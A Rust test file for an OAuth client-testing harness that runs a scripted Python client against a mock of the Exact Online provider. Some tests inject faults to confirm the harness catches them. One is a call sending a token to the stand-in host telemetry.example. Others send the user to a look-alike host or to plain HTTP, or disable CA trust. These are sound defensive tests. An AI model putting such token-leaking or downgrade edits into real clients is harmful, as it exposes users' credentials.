//! Clients that are configured for production: they know the real provider's host name and nothing else.

use std::path::PathBuf;
use std::sync::Arc;

use idp_harness::adapter::Way;
use idp_harness::run::event::EventKind;
use idp_harness::run::outcome::Outcome;
use idp_harness::run::{CellRun, ClientSource};
use idp_harness::scenario::load_dir;

use crate::support::{folder_with, run};

/// A client of one host, with Python's usual way of finding proxy and CA. `edit` is Python that may change the operation `op` of
/// the command `c` on its way; `host` and `fetch` are at hand.
fn production(edit: &str) -> ClientSource {
    let script = format!(
        r#"
import json, os, sys, urllib.error, urllib.parse, urllib.request
host = 'https://start.exactonline.nl'
def fetch(url, form=None, headers={{}}):
    data = form and urllib.parse.urlencode(form).encode()
    with urllib.request.urlopen(urllib.request.Request(url, data, headers), timeout=20) as answer:
        return answer.status, answer.read().decode()
hello = {{'result': 'hello', 'protocol': '1.0', 'adapter': {{'name': 'production', 'version': '1'}},
    'library': {{'name': 'urllib', 'version': '1', 'language': 'Python'}}, 'clock': 'inject',
    'capabilities': ['authorization_code', 'call', 'shared_store', 'clock']}}
def answer(op, c):
    global client, store
    if op == 'hello':
        return hello
    if op == 'configure':
        assert c['endpoints']['token'] == host + '/api/oauth2/token', c
        assert c['ca_file'] == os.environ['SSL_CERT_FILE'] and 'SSL_CERT_DIR' not in os.environ
        client, store = c['client'], c['storage'] + '/token'
    if op == 'authorize':
        query = {{'response_type': 'code', 'client_id': client['id'], 'redirect_uri': client['redirect_uri'], 'state': 'some-state'}}
        return {{'result': 'authorize', 'url': host + '/api/oauth2/auth?' + urllib.parse.urlencode(query)}}
    if op == 'callback':
        code = urllib.parse.parse_qs(urllib.parse.urlsplit(c['url']).query)['code'][0]
        form = {{'grant_type': 'authorization_code', 'code': code, 'redirect_uri': client['redirect_uri'],
            'client_id': client['id'], 'client_secret': client['secret']}}
        token = json.loads(fetch(host + '/api/oauth2/token', form)[1])['access_token']
        open(store, 'w').write(token)
    if op == 'call' and not os.path.exists(store):
        return {{'result': 'error', 'kind': 'reauthorize', 'message': 'nobody has signed in'}}
    if op == 'call':
        status, body = fetch(c['url'], headers={{'Authorization': 'Bearer ' + open(store).read()}})
        return {{'result': 'call', 'status': status, 'body': body}}
    if op == 'clock':
        return {{'result': 'clock', 'now': c['now']}}
    return {{'result': 'done'}}
for line in sys.stdin:
    request = json.loads(line)
    c = request['command']
    op = c['op']
    {edit}
    print(json.dumps({{'type': 'reply', 'id': request['id'], 'outcome': answer(op, c)}}), flush=True)
    if op == 'quit': break
"#
    );
    let command = ["python3", "-c", &script].map(str::to_owned).to_vec();
    ClientSource::Program { command, folder: PathBuf::from("."), way: Way::ByName, made_for: Vec::new() }
}

async fn conversation(edit: &str, profile: &str) -> CellRun {
    let folder = folder_with(&format!(
        "title: Two processes\nabout: One signs in and both read.\nsources: [RFC 6749 section 4.1]\nprofile: {profile}\nsteps:\n\
         \x20 - authorize\n\
         \x20 - call: GET /api/v1/current/Me\n\x20   expect: {{ status: 200 }}\n\
         \x20 - call: GET /api/v1/current/Me\n\x20   worker: b\n\x20   expect: {{ status: 200 }}\n\
         reaches: [redeemed]\nrules: [token-request/code-redeemed-once]\n"
    ));
    let one = load_dir(&folder.path().join("scenarios")).unwrap().into_iter().map(Arc::new).collect();
    run(production(edit), one, 1).await.into_values().next().unwrap()
}

const EXACT: &str = "exact-online@2021-11";

fn failure(run: &CellRun) -> String {
    assert!(run.failing.contains("expectation"), "{:?}", run.outcome);
    assert!(matches!(run.outcome, Outcome::Fail { .. }), "{:?}", run.outcome);
    let Outcome::Fail { reasons } = &run.outcome else { return String::new() };
    reasons.join("\n")
}

#[tokio::test(flavor = "multi_thread")]
async fn a_client_of_the_real_host_reaches_the_mock_and_its_processes_are_told_apart() {
    let run = conversation("pass", EXACT).await;
    assert_eq!(run.outcome, Outcome::Pass);
    let requests = |worker: &str, wanted: &str| {
        let of = |it: &EventKind| {
            matches!(it, EventKind::Request { from, endpoint, headers, .. } if from == worker && endpoint == wanted
                && headers.iter().any(|(name, value)| name == "host" && value == "start.exactonline.nl"))
        };
        run.events.iter().filter(|event| of(&event.what)).count()
    };
    assert_eq!((requests("a", "token"), requests("a", "resource")), (1, 1));
    assert_eq!((requests("b", "token"), requests("b", "resource")), (0, 1));
    assert_eq!(requests("resource-owner", "authorization"), 1, "the harness's browser goes the same way");
}

#[tokio::test(flavor = "multi_thread")]
async fn its_log_is_the_same_each_time_and_knows_no_port_and_no_folder() {
    let written = |run: CellRun| serde_json::to_string(&run.events).unwrap();
    let first = written(conversation("pass", EXACT).await);
    assert_eq!(first, written(conversation("pass", EXACT).await));
    for of_this_run in ["127.0.0.1", "idp-harness-", "BEGIN CERTIFICATE"] {
        assert!(!first.contains(of_this_run), "{of_this_run}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_for_another_host_is_a_finding() {
    let leak = "if op == 'call':\n        try: fetch('https://telemetry.example/collect?token=x')\n        except urllib.error.URLError: pass";
    let reasons = failure(&conversation(leak, EXACT).await);
    assert!(reasons.contains("CONNECT telemetry.example:443"), "{reasons}");
    assert!(!reasons.contains("token=x"), "{reasons}");
    let plain = leak.replace("https:", "http:");
    let reasons = failure(&conversation(&plain, EXACT).await);
    assert!(reasons.contains("GET telemetry.example"), "{reasons}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_user_who_is_sent_to_another_host_is_a_finding() {
    let elsewhere = "if op == 'authorize': host = 'https://start.exactonline.example'";
    let reasons = failure(&conversation(elsewhere, EXACT).await);
    assert!(reasons.contains("https://start.exactonline.example"), "{reasons}");
    let unprotected = "if op == 'authorize': host = 'http://start.exactonline.nl'";
    let reasons = failure(&conversation(unprotected, EXACT).await);
    assert!(reasons.contains("http://start.exactonline.nl"), "{reasons}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_client_that_does_not_trust_the_ca_is_a_finding_and_not_silence() {
    let distrust = "if op == 'callback': os.environ['SSL_CERT_FILE'] = '/dev/null'\n    \
                    if op == 'callback':\n        try: answer(op, c)\n        except urllib.error.URLError: op = 'done'";
    let reasons = failure(&conversation(distrust, EXACT).await);
    assert!(reasons.contains("does it trust the CA?"), "{reasons}");
}
